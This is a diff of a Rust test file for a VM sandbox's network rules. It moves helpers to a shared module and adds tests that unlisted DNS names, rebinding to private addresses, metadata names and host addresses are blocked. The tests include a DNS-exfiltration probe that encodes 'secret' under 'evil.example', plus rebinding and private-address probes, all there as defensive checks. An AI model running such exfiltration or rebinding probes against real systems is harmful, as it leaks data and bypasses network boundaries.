@@ -1,117 +1,8 @@
-//! Rules for names: what the guest resolves, and what the first bytes of its connections have to be. nido runs in namespaces of the
-//! test's own, in which public addresses and names are the loopback's.
+//! Rules for names: what the guest resolves, and what the first bytes of its connections have to be.
 
 use std::fs;
-use std::io::{BufRead, BufReader};
-use std::process::{Child, Command, Stdio};
 
-use crate::rig::{TestHome, Vm};
-
-/// The addresses of the loopback in the namespaces.
-const ADDRESSES: [&str; 3] = ["93.184.215.14/32", "93.184.215.15/32", "2606:2800:21f::1/128"];
-/// The names that the host there knows.
-const HOSTS: &str = "\
-93.184.215.14 example.com www.example.com shared.example.net
-2606:2800:21f::1 example.com
-10.1.2.3 inside.example.com
-127.0.0.1 loop.example.com
-::ffff:169.254.169.254 mapped.example.com
-";
-/// A server on ports 22, 80, 443 and 8443 of each address: to whatever it gets it answers with `seen`, and on port 22 it speaks first.
-const SERVER: &str = "
-import socket, threading
-def serve(family, address, port):
-    server = socket.socket(family); server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-    server.bind((address, port)); server.listen(64)
-    def talk(client):
-        try:
-            if port == 22: client.sendall(b'SSH-2.0-test\\n')
-            while client.recv(65536): client.sendall(b'seen\\n')
-        except OSError: pass
-        client.close()
-    while True: threading.Thread(target=talk, args=(server.accept()[0],), daemon=True).start()
-for family, address in ((socket.AF_INET, '0.0.0.0'), (socket.AF_INET6, '::')):
-    for port in (22, 80, 443, 8443):
-        if family == socket.AF_INET6:
-            address = '2606:2800:21f::1'
-        threading.Thread(target=serve, args=(family, address, port)).start()
-print('ready', flush=True)
-";
-/// For the guest: connects, sends, and prints the first line of the answer or how the connection ended.
-const CLIENT: &str = r#"
-import socket, ssl, errno, sys
-def hello(name):
-    out = ssl.MemoryBIO(); context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
-    end = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
-    try: end.do_handshake()
-    except ssl.SSLWantReadError: pass
-    return out.read()
-def request(name): return b'GET / HTTP/1.1\r\nHost: ' + name.encode() + b'\r\n\r\n'
-def show(address, port, pieces):
-    try:
-        s = socket.create_connection((address, port), 20); s.settimeout(20)
-        answer = b''
-        for piece in pieces:
-            s.sendall(piece); answer = s.recv(100)
-            if not answer: break
-        if not pieces: answer = s.recv(100)
-        print(answer.decode().strip() or 'closed')
-    except OSError as e: print(errno.errorcode.get(e.errno, type(e).__name__))
-"#;
-
-/// Namespaces of network, mounts and users. They end with the test.
-struct Namespaces {
-    child: Child,
-    pid: String,
-}
-
-impl Namespaces {
-    fn new(home: &TestHome) -> Self {
-        let hosts = home.user_dir().join("hosts");
-        fs::write(&hosts, HOSTS).unwrap();
-        let addresses = ADDRESSES.map(|address| format!("ip address add {address} dev lo; ")).concat();
-        // A route for IPv6 is what makes the host have it.
-        let script = format!(
-            "set -e; mount --bind \"$0\" /etc/hosts; ip link set lo up; {addresses} \
-             ip -6 route add default dev lo; exec python3 -c \"$1\""
-        );
-        let mut child = Command::new("unshare")
-            .args(["--user", "--map-current-user", "--keep-caps", "--mount", "--net", "sh", "-c", &script])
-            .args([hosts.as_os_str(), SERVER.as_ref()])
-            .stdout(Stdio::piped())
-            .spawn()
-            .unwrap();
-        let mut line = String::new();
-        BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
-        assert_eq!(line, "ready\n", "the namespaces cannot be set up");
-        let pid = child.id().to_string();
-        Self { child, pid }
-    }
-
-    /// Spawns a VM whose supervisor is in these namespaces.
-    fn spawn<'home>(&self, home: &'home TestHome, name: &'static str, flags: &[&str]) -> Vm<'home> {
-        let wrapper = ["nsenter", "--preserve-credentials", "--user", "--mount", "--net", "--target", &self.pid, "--"];
-        home.nido(["spawn", name, "--net", "restricted"]).args(flags).behind(wrapper).ok();
-        Vm { home, name }
-    }
-}
-
-impl Drop for Namespaces {
-    fn drop(&mut self) {
-        let _ = self.child.kill();
-        let _ = self.child.wait();
-    }
-}
-
-/// What a line of [`CLIENT`] prints.
-fn show(vm: &Vm<'_>, call: &str) -> String {
-    vm.exec(["python3", "-c", &format!("{CLIENT}\n{call}")]).text()
-}
-
-fn reasons(vm: &Vm<'_>) -> Vec<String> {
-    let denials = vm.info()["network"]["denials"].clone();
-    denials.as_array().unwrap().iter().map(|denial| denial["reason"].as_str().unwrap().to_owned()).collect()
-}
+use crate::rig::{Namespaces, TestHome, Vm, eventually, reasons, show};
 
 #[test]
 fn a_name_is_resolved_and_reached_only_where_a_rule_names_it() {
@@ -194,4 +85,113 @@ def ask(name, kind, tcp=False, server='10.0.2.3'):
          ask('host.nido.internal', 1); ask('example.com', 1, False, '8.8.8.8'); ask('example.com', 1, True, '8.8.8.8')";
     let answers = show(&vm, &format!("{ask}\n{calls}"));
     assert_eq!(answers, "0 1; 0 1; 0 0; 0 0; 0 1; 3 0; 3 0; 3 0; 0 1; ECONNREFUSED; ECONNREFUSED; ");
+}
+
+#[test]
+fn the_hosts_name_server_gets_no_word_of_the_guests() {
+    let home = TestHome::new();
+    let namespaces = Namespaces::new(&home);
+    let vm = namespaces.spawn(&home, "web", &["--allow", "*.dns.example.com"]);
+    let ask = r#"
+import struct
+def ask(name, kind):
+    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0'
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect(('10.0.2.3', 53))
+    s.send(struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + struct.pack('>2H', kind, 1))
+    answer = s.recv(4096); print(answer[3] & 15, struct.unpack('>H', answer[6:8])[0], end='; ')
+"#;
+    // Names that no rule names, and other types (TXT, NULL, ANY, HTTPS) of one that is allowed.
+    let calls = "ask('c2VjcmV0.evil.example', 1); ask('c2VjcmV0.evil.example', 16); ask('dns.example.com', 1)\n\
+                 for kind in (16, 10, 255, 65): ask('public.dns.example.com', kind)";
+    assert_eq!(show(&vm, &format!("{ask}\n{calls}")), "3 0; 3 0; 3 0; 0 0; 0 0; 0 0; 0 0; ");
+    assert_eq!(namespaces.queries(), "");
+    // The case of letters carries nothing, and neither does the type of the question.
+    assert_eq!(show(&vm, &format!("{ask}\nask('PuBLic.dNS.eXample.COM', 1)")), "0 1; ");
+    let queries = namespaces.queries();
+    assert!(!queries.is_empty());
+    for query in queries.lines() {
+        assert!(["public.dns.example.com 1", "public.dns.example.com 28"].contains(&query), "{queries}");
+    }
+}
+
+#[test]
+fn answers_of_the_hosts_name_server_lead_to_no_private_address() {
+    let home = TestHome::new();
+    let namespaces = Namespaces::new(&home);
+    let vm = namespaces.spawn(&home, "web", &["--allow", "*.dns.example.com"]);
+    let resolve = |name: &str| {
+        let name = format!("{name}.dns.example.com");
+        show(
+            &vm,
+            &format!(
+                "try: print(*sorted({{a[4][0] for a in socket.getaddrinfo('{name}', 80)}}))\n\
+                 except socket.gaierror: print('unknown')"
+            ),
+        )
+    };
+    // The answer is public once, and leads inside from then on.
+    assert_eq!(resolve("rebind"), "93.184.215.14");
+    assert_eq!(show(&vm, "show('93.184.215.14', 80, [request('rebind.dns.example.com')])"), "seen");
+    assert_eq!(resolve("rebind"), "unknown");
+    for address in ["127.0.0.1", "10.0.0.1", "::ffff:10.0.0.1", "10.0.2.2", "0.0.0.0"] {
+        let ended = show(&vm, &format!("show('{address}', 80, [request('rebind.dns.example.com')])"));
+        assert!(ended.starts_with('E'), "{address}: {ended}");
+    }
+    for name in ["alias", "metadata"] {
+        assert_eq!(resolve(name), "unknown", "{name}");
+    }
+    // The names in the middle of a chain need no rule, and get none.
+    assert_eq!(resolve("chain"), "93.184.215.14");
+    assert_eq!(show(&vm, "show('middle.corp.example', 80, [])"), "gaierror");
+    assert_eq!(resolve("many").split_whitespace().count(), 200);
+    let reasons = reasons(&vm);
+    assert!(reasons.iter().any(|reason| reason == "address_private"), "{reasons:?}");
+}
+
+#[test]
+fn the_hosts_own_addresses_are_reached_only_by_rule() {
+    let home = TestHome::new();
+    let namespaces = Namespaces::new(&home);
+    let vm = namespaces.spawn(&home, "web", &["--allow", "example.com:*"]);
+    let addresses = ["10.77.0.1", "fd77::1", "10.0.2.2", "fd6e:6964:6f::2", "127.0.0.1", "::1", "0.0.0.0", "::"];
+    for address in addresses.into_iter().chain(["::ffff:10.77.0.1", "::ffff:127.0.0.1"]) {
+        for port in [22, 80] {
+            let ended = show(&vm, &format!("show('{address}', {port}, [])"));
+            assert!(ended.starts_with('E'), "{address}: {ended}");
+        }
+    }
+    // The same with a rule, which is added while the VM runs and removed again.
+    let reached = "show('10.77.0.1', 22, []); show('fd77::1', 22, [])";
+    namespaces.nido(&home, &["net", "allow", "web", "10.77.0.1:22", "[fd77::1]:22"]).ok();
+    assert_eq!(show(&vm, reached), "SSH-2.0-test\nSSH-2.0-test");
+    namespaces.nido(&home, &["net", "deny", "web", "10.77.0.1:22", "[fd77::1]:22"]).ok();
+    assert_eq!(show(&vm, reached), "ECONNREFUSED\nECONNREFUSED");
+}
+
+#[test]
+fn what_a_guest_has_resolved_is_kept_with_its_memory() {
+    let home = TestHome::new();
+    let namespaces = Namespaces::new(&home);
+    let vm = namespaces.spawn(&home, "web", &["--allow", "example.com:22"]);
+    // Programs that keep an address and do not ask again.
+    let reach = "show('93.184.215.14', 22, []); show('2606:2800:21f::1', 22, [])";
+    let (reached, refused) = ("SSH-2.0-test\nSSH-2.0-test", "ECONNREFUSED\nECONNREFUSED");
+    assert_eq!(show(&vm, reach), refused);
+    assert_eq!(show(&vm, "socket.getaddrinfo('example.com', 22); show('93.184.215.14', 22, [])"), "SSH-2.0-test");
+    let stored = || fs::read_to_string(vm.dir().join("names.json")).is_ok_and(|text| text.contains("2606:2800:21f::1"));
+    eventually("stored names", || stored().then_some(()));
+    vm.kill_supervisor();
+    namespaces.nido(&home, &["exec", "web", "--", "true"]).ok();
+    assert_eq!(show(&vm, reach), reached, "after its supervisor was replaced");
+    namespaces.nido(&home, &["fork", "web", "copy"]).ok();
+    assert_eq!(show(&Vm { home: &home, name: "copy" }, reach), reached, "in a copy");
+    namespaces.nido(&home, &["snapshot", "create", "web", "s"]).ok();
+    // A guest that boots has resolved nothing.
+    namespaces.nido(&home, &["restart", "web"]).ok();
+    assert_eq!(show(&vm, reach), refused, "after a boot");
+    namespaces.nido(&home, &["snapshot", "restore", "web", "s"]).ok();
+    assert_eq!(show(&vm, reach), reached, "after a restore");
+    // The rules decide at each connection.
+    namespaces.nido(&home, &["net", "deny", "web", "example.com:22"]).ok();
+    assert_eq!(show(&vm, reach), refused, "without its rule");
 }
